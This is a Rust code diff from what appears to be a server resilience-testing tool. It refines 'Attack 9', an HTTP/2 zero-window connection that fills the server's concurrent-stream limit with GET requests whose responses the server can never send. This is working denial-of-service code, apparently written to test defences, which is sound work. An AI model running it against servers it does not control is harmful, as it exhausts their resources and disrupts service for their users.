@@ -24,6 +24,11 @@ impl HeldConnection {
         tokio::time::timeout(timeout, &mut self.driver).await.is_ok()
     }
 
+    /// Streams it holds open.
+    pub fn streams(&self) -> usize {
+        self._streams.len()
+    }
+
     /// True when the server has closed the connection already.
     pub fn is_closed(&self) -> bool {
         self.driver.is_finished()
@@ -61,8 +66,9 @@ pub async fn idle_connection(base_url: &str, local: Option<IpAddr>) -> anyhow::R
     Ok(HeldConnection { _requests: requests, _streams: Vec::new(), driver })
 }
 
-/// Attack 9: an h2c connection whose `SETTINGS_INITIAL_WINDOW_SIZE` is 0, with `streams`
-/// concurrent `GET path` whose responses the server can start but never send.
+/// Attack 9: an h2c connection whose `SETTINGS_INITIAL_WINDOW_SIZE` is 0, with up to `streams`
+/// concurrent `GET path` whose responses the server can start but never send (as many as the
+/// server's `SETTINGS_MAX_CONCURRENT_STREAMS` lets it open).
 pub async fn zero_window_connection(
     base_url: &str,
     local: Option<IpAddr>,
@@ -71,7 +77,17 @@ pub async fn zero_window_connection(
 ) -> anyhow::Result<HeldConnection> {
     let mut builder = h2::client::Builder::new();
     builder.initial_window_size(0);
-    let (requests, driver) = handshake(base_url, local, &builder).await?;
+    let tcp = connect(base_url, local).await?;
+    let (requests, mut connection) = builder.handshake::<_, Bytes>(tcp).await?;
+    // Drive the connection until the server's SETTINGS are in, to learn its stream limit.
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(2);
+    while connection.max_concurrent_send_streams() == usize::MAX && tokio::time::Instant::now() < deadline {
+        let _ = tokio::time::timeout(Duration::from_millis(5), &mut connection).await;
+    }
+    let streams = streams.min(connection.max_concurrent_send_streams());
+    let driver = tokio::spawn(async move {
+        let _ = connection.await;
+    });
     let mut requests = requests.ready().await?;
     let mut pending = Vec::with_capacity(streams);
     for _ in 0..streams {
